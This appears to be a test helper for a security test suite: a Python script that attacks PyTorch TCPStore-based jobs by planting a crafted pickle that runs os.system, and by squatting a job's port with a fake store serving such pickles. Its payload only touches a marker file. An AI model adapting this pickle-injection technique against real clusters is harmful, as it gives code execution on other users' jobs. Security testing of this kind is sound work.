"""Another user of a cluster, who writes to the stores of jobs: run by test_socket_attacks.py, as root or not.

    socket_attacker.py plant PORT ID MARK [HOST]   write to the store of a job from its first moment on
    socket_attacker.py pretend PORT MARK           listen before the job does, with a store that has an answer to all

Both print READY once they begin, and end with their standard input.
"""

import base64
import os
import pickle
import sys
import time
from contextlib import suppress
from datetime import timedelta
from threading import Thread

from torch.distributed import TCPStore

NOBODY = 65534


class Crafted:
    """Unpickled, it runs a command."""

    def __init__(self, mark):
        self._mark = mark

    def __reduce__(self):
        return os.system, (f"touch {self._mark}",)


def plant(port, run_id, mark, host="127.0.0.1"):
    """Write what torchrun's rendezvous would unpickle, and wrong ranks, again and again."""
    print("READY", flush=True)
    pickled = pickle.dumps(Crafted(mark))
    state = base64.b64encode(pickled)
    values = {f"torch.rendezvous.{run_id}": state, f"{run_id}/torch.rendezvous.{run_id}": state}
    for node in range(4):
        values[f"{run_id}/torchelastic/assigned_ranks/{node}"] = b"[0, 1, 0, 1]"
        values[f"{run_id}/torchelastic/role_info/{node}"] = pickled
    while True:
        with suppress(Exception):
            store = TCPStore(host, int(port), is_master=False, wait_for_workers=False, timeout=timedelta(seconds=1))
            while True:
                for name, value in values.items():
                    store.set(name, value)
                if "torch.rendezvous" in "".join(store.list_keys()):
                    print("PLANTED", flush=True)
                time.sleep(0.02)
        time.sleep(0.02)


def pretend(port, mark):
    """Be the store at a job's port."""
    store = TCPStore("0.0.0.0", int(port), is_master=True, wait_for_workers=False)  # noqa: S104 - as a real one
    for name in ("contents", "default_pg/0//0"):
        for prefix in ("", "/worker/attempt_0/"):
            store.set(f"{prefix}{name}", pickle.dumps(Crafted(mark)))
    print("READY", flush=True)
    while True:
        time.sleep(1)


if __name__ == "__main__":
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(NOBODY, NOBODY, NOBODY)
        os.setresuid(NOBODY, NOBODY, NOBODY)
    Thread(target=lambda: sys.stdin.read() or os._exit(0), daemon=True).start()
    {"plant": plant, "pretend": pretend}[sys.argv[1]](*sys.argv[2:])
